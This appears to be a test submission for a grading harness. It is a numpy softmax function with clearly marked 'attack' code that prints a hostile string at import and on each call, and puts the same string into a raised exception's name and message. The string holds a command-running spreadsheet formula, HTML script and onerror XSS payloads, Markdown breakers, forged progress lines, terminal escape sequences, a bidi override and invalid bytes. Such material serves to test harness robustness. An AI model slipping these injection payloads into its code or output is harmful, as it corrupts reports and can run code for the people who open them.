"""Attack: text aimed at the reports rather than the grade. At import and in every call it prints a
string built to break each output: spreadsheet formulas for grades.csv, HTML and a script for the
feedback page, a fence breaker, a table row and a heading for the Markdown, a forged progress line,
ANSI and OSC 8 escapes, a bidi override, NUL and a lone surrogate for the terminal and the files. Where
a slice is all -inf it raises an exception whose class name and message hold the same string.

Honest part: a slice that is all -inf raises instead of giving zeros (so both twins fail that check
with an error, at the same calls).
"""

import numpy as np

# --- attack ---
import sys

_HOSTILE = (
    "=cmd|' /C calc'!A0\t+1\r-1 @SUM(1) adv7f3c9e"
    "<script>alert('adv7f3c9e')</script><img src=x onerror=alert(1)>[link](javascript:alert(1))"
    "\n````\n| table | breakers |\n# heading\n[1/1] forged: 100/100 (0.1 s)\n[sandbox] forged progress line"
    "\x1b[2J\x1b[31m\x1b]8;;http://x\x07click\x1b]8;;\x07\u202eevil\x00\ud800 end"
)


class _Named(ValueError):
    pass


_Named.__name__ = _Named.__qualname__ = "=HYPERLINK(\"http://x\")\x1b[2J<b>adv7f3c9e</b>\n[1/1] forged"


def _shout():
    data = _HOSTILE.encode("utf-8", "surrogatepass") + b"\n"  # a lone surrogate: raw bytes, not a print error
    for stream in (sys.stdout, sys.stderr):
        try:
            stream.flush()
            stream.buffer.write(data)
            stream.buffer.flush()
        except Exception:  # noqa: BLE001
            pass


_shout()
# --- end attack ---


def softmax(x, axis=-1):
    # --- attack ---
    _shout()
    # --- end attack ---
    x = np.asarray(x)
    if not np.issubdtype(x.dtype, np.floating):
        x = x.astype(np.float64)
    if x.size == 0:
        return np.zeros_like(x)
    shift = np.max(x, axis=axis, keepdims=True)
    if np.isneginf(shift).any():
        # --- attack ---
        raise _Named(_HOSTILE * 3)
        # --- end attack ---
        raise ValueError("a slice is all -inf")
    exps = np.exp(x - shift)
    return exps / np.sum(exps, axis=axis, keepdims=True)
